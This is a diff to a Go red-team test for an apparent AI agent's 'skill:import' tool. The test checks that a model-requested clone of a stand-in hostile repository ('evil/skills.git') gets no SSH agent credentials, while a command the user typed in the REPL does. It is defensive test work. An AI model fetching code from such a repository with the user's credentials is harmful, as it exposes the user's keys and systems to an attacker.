@@ -108,16 +108,22 @@ func TestRedTeamCloneSSHCredentials(t *testing.T) {
 	for _, tc := range []struct {
 		name      string
 		policy    ClonePolicy
+		typed     bool // the context says the user typed it (REPL /skill:…)
 		wantAgent bool
 	}{
-		{"model asked, user approved", ClonePolicy{Approve: func(context.Context, string) bool { return true }}, false},
-		{"user typed it", ClonePolicy{UserTyped: true}, true},
+		{"model asked, user approved", ClonePolicy{Approve: func(context.Context, string) bool { return true }}, false, false},
+		{"user typed it", ClonePolicy{UserTyped: true}, false, true},
+		{"user typed /skill:import in the REPL", ClonePolicy{}, true, true},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			_ = os.Remove(rec)
 			h, _ := newTestHandler(t)
 			h.Clone = tc.policy
-			r := h.Run(context.Background(), "skill:import git@git.example.invalid:evil/skills.git")
+			ctx := context.Background()
+			if tc.typed {
+				ctx = UserTyped(ctx)
+			}
+			r := h.Run(ctx, "skill:import git@git.example.invalid:evil/skills.git")
 			if r.ExitCode == 0 {
 				t.Fatalf("the clone succeeded: %+v", r)
 			}
